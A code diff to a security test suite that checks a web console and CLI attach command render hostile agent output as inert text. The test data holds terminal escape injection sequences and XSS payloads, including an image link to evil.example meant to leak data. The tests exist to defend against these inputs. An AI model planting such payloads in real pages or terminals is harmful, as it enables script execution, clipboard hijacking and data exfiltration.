@@ -17,6 +17,7 @@ import type { LoggedEvent } from "../../shared/events.ts";
 import { PROTOCOL_VERSION, SUBPROTOCOL, type ToClientFrame, ToControlFrame } from "../../shared/frames.ts";
 import { ApprovalId, idBody, type SessionId, TurnId } from "../../shared/ids.ts";
 import { MAX_HELLO_BYTES } from "../../shared/limits.ts";
+import { Browser } from "../support/browser.ts";
 import { AUDIENCE, type Issuer, seconds, startIssuer } from "../support/issuer.ts";
 import { type ControlSocket, dialSession, type Hosting, newKeyPair, RawRunner, RawSocket, refusal } from "../support/raw-runner.ts";
 import { gatewayPid, type Stack, startStack } from "../support/stack.ts";
@@ -142,6 +143,33 @@ async function asked(): Promise<Awaited<ReturnType<typeof hosted>> & { approvalI
 	made.hosting.report({ type: "question_asked", turnId: made.turnId, approvalId, questions } as never);
 	await made.hosting.acked();
 	return { ...made, approvalId };
+}
+/** What a real browser makes of such a call, which waits for a person in the console: its text, and what is in it besides text. */
+async function consoleShows(
+	tool: string,
+	input: Record<string, unknown>,
+): Promise<{ text: string; elements: unknown; troubles: string[]; requests: string[] }> {
+	const { hosting, turnId } = await hosted();
+	const approvalId = ApprovalId.parse(`apr_${idBody(randomBytes(26))}`);
+	hosting.report({ type: "approval_requested", turnId, approvalId, tool, input, reason: tool } as never);
+	await hosting.acked();
+	await expect.poll(async () => (await stack.client.approvals()).data.some((a) => a.approvalId === approvalId)).toBe(true);
+	const browser = new Browser();
+	try {
+		const page = await browser.open(`${stack.url}/console`);
+		await page.until("a field for the key", "!document.querySelector('#sign-in').hidden");
+		await page.type(stack.apiKey);
+		await page.press("Enter");
+		const card = `[...document.querySelectorAll('li.approval')].find((e) => e.querySelector('.session').textContent === '${hosting.sessionId}')`;
+		await page.until("the call", `${card} !== undefined`);
+		await page.evaluate(`${card}.querySelector('details').open = true`);
+		await page.until("the whole call", `${card}.querySelector('details pre')`);
+		const text = String(await page.evaluate(`${card}.textContent`));
+		const elements = await page.evaluate("document.querySelectorAll('main img, main script, main a, main iframe').length");
+		return { text, elements, troubles: page.troubles, requests: page.requests };
+	} finally {
+		await browser.close();
+	}
 }
 
 describe("credentials", () => {
@@ -705,7 +733,7 @@ describe("bodies and frames", () => {
 });
 
 describe("what CLIs and people say", () => {
-	test("attack 34: terminal sequences in a CLI's output reach no terminal by `hotplex attach`; they are whole in the log (there is no web console yet)", async () => {
+	test("attack 34: terminal sequences in a CLI's output reach no terminal by `hotplex attach` and are escapes in the console; they are whole in the log", async () => {
 		const { session, hosting, turnId } = await hosted();
 		const evil =
 			"\u001b]52;c;ZXZpbA==\u0007\u001b]0;title\u0007\u001b[6n\u001b]8;;javascript:alert(1)\u001b\\link\u001b]8;;\u001b\\\u009b31m\u202e";
@@ -715,6 +743,12 @@ describe("what CLIs and people say", () => {
 			{ type: "turn_ended", turnId, stopReason: "end_turn" },
 		);
 		await hosting.acked();
+		const inConsole = await consoleShows(`Bash${evil}`, { command: `ls ${evil}` });
+		// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
+		expect(inConsole.text).not.toMatch(/[\u0007\u001b\u0080-\u009f\u202a-\u202e]/);
+		expect(inConsole.text).toContain(
+			String.raw`ls \x1b]52;c;ZXZpbA==\x07\x1b]0;title\x07\x1b[6n\x1b]8;;javascript:alert(1)\x1b\link\x1b]8;;\x1b\\x9b31m\u202e`,
+		);
 		await session.terminate();
 		const shown = await stack.hotplex(["attach", session.id]);
 		expect(shown.stdout).toContain("before");
@@ -724,7 +758,7 @@ describe("what CLIs and people say", () => {
 		expect(said).toBe(`before ${evil} after`);
 	});
 
-	test("attack 35: HTML and links in a CLI's output are text: they are served as JSON that no browser takes for a page (there is no web console yet)", async () => {
+	test("attack 35: HTML and links in a CLI's output are text: they are served as JSON that no browser takes for a page, and the console shows them as they are written", async () => {
 		const { session, hosting, turnId } = await hosted();
 		const evil = "<img src=x onerror=alert(1)> ![](https://evil.example/?leak) [x](javascript:alert(1)) <script>alert(1)</script>";
 		hosting.report({ type: "text_delta", turnId, messageId: "m", text: evil }, { type: "turn_ended", turnId, stopReason: "end_turn" });
@@ -732,6 +766,9 @@ describe("what CLIs and people say", () => {
 		const page = await call("GET", `/v1/sessions/${session.id}/events`, { ...mine(), accept: "text/html" });
 		expect([page.headers.get("content-type"), page.headers.get("x-content-type-options")]).toEqual(["application/json", "nosniff"]);
 		expect(page.text).toContain("onerror");
+		const inConsole = await consoleShows(`Bash ${evil}`, { command: `echo '${evil}'`, [evil]: evil });
+		expect(inConsole).toMatchObject({ text: expect.stringContaining(`echo '${evil}'`), elements: 0, troubles: [] });
+		expect(inConsole.requests.filter((url) => !url.startsWith(`${stack.url}/`))).toEqual([]);
 		const problem = await call("GET", `/v1/${encodeURIComponent("<script>")}`, mine());
 		expect([problem.headers.get("content-type"), problem.headers.get("x-content-type-options")]).toEqual([
 			"application/problem+json",
